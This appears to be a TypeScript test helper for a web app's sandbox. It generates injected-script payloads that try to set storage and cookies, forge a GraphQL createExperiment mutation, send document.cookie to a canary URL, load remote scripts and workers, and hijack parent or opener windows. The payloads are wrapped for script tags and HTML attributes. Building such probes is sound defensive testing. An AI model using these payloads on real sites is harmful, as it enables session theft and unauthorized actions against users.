import type { AttackFacts } from './attack.ts';

/** What a script calls that makes an experiment, if it can. */
export function mutation({ title }: Pick<AttackFacts, 'title'>): string {
  return JSON.stringify({
    query: `mutation { createExperiment(createExperimentInput: { title: "${title}", description: "", tags: [] }) { uuid } }`,
  });
}

/** A script that tries all it can think of, each try on its own. */
export function everything(facts: AttackFacts): string {
  const { canary, server } = facts;
  const tries = [
    `localStorage.setItem('stolen', '1')`,
    `sessionStorage.setItem('stolen', '1')`,
    `document.cookie = 'stolen=1; path=/'`,
    `indexedDB.open('stolen')`,
    `caches.open('stolen')`,
    `fetch('${server}/api/graphql', { method: 'POST', headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(mutation(facts))} })`,
    `fetch('/api/graphql', { method: 'POST', headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(mutation(facts))} })`,
    `fetch('${canary.url}/fetch?' + document.cookie)`,
    `fetch('${canary.url}/no-cors', { mode: 'no-cors' })`,
    `navigator.sendBeacon('${canary.url}/beacon')`,
    `new WebSocket('${canary.url.replace('http', 'ws')}/socket')`,
    `new EventSource('${canary.url}/events')`,
    `new Image().src = '${canary.url}/image'`,
    `new Audio('${canary.url}/audio').play()`,
    `import('${canary.url}/module.js')`,
    `new Worker(URL.createObjectURL(new Blob(["fetch('${canary.url}/worker')"])))`,
    `new SharedWorker('${canary.url}/shared.js')`,
    `navigator.serviceWorker.register(location.href)`,
    `new FontFace('f', 'url(${canary.url}/font)').load()`,
    `parent.document.title = 'stolen'`,
    `parent.localStorage.setItem('stolen', '1')`,
    `top.location = '${canary.url}/top'`,
    `opener.location = '${canary.url}/opener'`,
    `open('${canary.url}/window')`,
    `open('${server}/settings')`,
    `document.body.appendChild(Object.assign(document.createElement('iframe'), { src: '${canary.url}/frame' }))`,
    `document.body.appendChild(Object.assign(document.createElement('script'), { src: '${canary.url}/script.js' }))`,
    `eval("localStorage.setItem('stolen', '1')")`,
    `alert('stolen')`,
    `parent.postMessage({ title: 'stolen' }, '*')`,
  ];
  return tries.map((attempt) => `try { ${attempt} } catch {}`).join('\n');
}

/** The same inside a page. */
export function scripted(facts: AttackFacts): string {
  return `<script>${everything(facts)}</script>`;
}

/** The same for an attribute between double quotes. */
export function inAttribute(facts: AttackFacts): string {
  return everything(facts).replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('\n', ' ');
}
